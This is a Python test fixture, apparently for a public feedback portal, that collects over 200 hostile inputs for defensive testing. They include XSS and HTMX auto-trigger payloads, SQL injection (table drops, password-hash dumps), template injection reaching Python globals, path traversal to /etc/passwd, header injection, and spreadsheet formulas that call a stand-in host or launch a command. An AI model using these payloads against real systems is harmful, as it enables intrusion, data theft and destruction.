"""Hostile inputs: at least 200 payloads across the classes the portal must shrug off."""

from __future__ import annotations

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    "<marquee onstart=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<svg/onload=alert`1`>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<base href=javascript:alert(1)//>",
]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE feedback; --",
    '" OR ""="',
    "1; DELETE FROM users",
    "' UNION SELECT email, password_hash FROM users --",
    "admin'--",
    "1' AND SLEEP(5)--",
    "'); SELECT pg_sleep(5); --",
    "%' AND 1=1 AND '%'='",
    "' OR 1=1 LIMIT 1 OFFSET 1 --",
    "feedback_fts MATCH '*'",
    "NEAR(a b, 2)",
    '"unterminated',
    "a OR b NOT c",
    "col:value",
    "^start",
    "***",
    "(((((",
]
TEMPLATE = [
    "{{7*7}}",
    "{{ config }}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ request.application.__globals__.__builtins__ }}",
    "[[${7*7}]]",
]
PATHS = [
    "../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd\x00.png",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2f",
    "/static/../instance/secret_key",
]
CSV = [
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
]
HEADERS = [
    "value\r\nSet-Cookie: owned=1",
    "value\nLocation: http://evil.example",
    "%0d%0aSet-Cookie:%20owned=1",
    "value\r\n\r\n<script>alert(1)</script>",
]
HTMX = [
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<button hx-post="/triage/bulk" hx-trigger="load">x</button>',
    '<img src=x hx-on:htmx:load="alert(1)">',
    '<div hx-on::load="alert(1)">x</div>',
    '<a hx-boost="true" href="//evil.example">x</a>',
    '<div hx-vals=\'js:{a: alert(1)}\' hx-get="/" hx-trigger="load">',
    '<div data-hx-get="/logout" data-hx-trigger="load">x</div>',
    '<form hx-post="/logout" hx-trigger="load"></form>',
]
UNICODE = [
    "\u202eevil\u202c text with a right-to-left override",
    "\u2066isolate\u2069 and \u200bzero width",
    "\ufeffbyte order mark at the start",
    "emoji 🚉🚌🙂 and CJK 車站 and Arabic محطة",
    "combining e\u0301\u0301\u0301\u0301\u0301",
    "\ud7ff\ue000\uffff edge code points",
    "null\x00byte",
    "bell\x07 and escape\x1b[31m red",
    "line\u2028separator\u2029paragraph",
    "﷽" * 20,
]
OVERSIZED = ["x" * 5001, "y" * 20000, "z " * 3000]

BASE = XSS + SQL + TEMPLATE + PATHS + CSV + HEADERS + HTMX + UNICODE + OVERSIZED
# Each payload also hidden inside ordinary text, as a real submission would carry it.
PAYLOADS = list(dict.fromkeys(BASE + [f"The bus stop at Lime Street {p} please fix" for p in BASE]))
assert len(PAYLOADS) >= 200
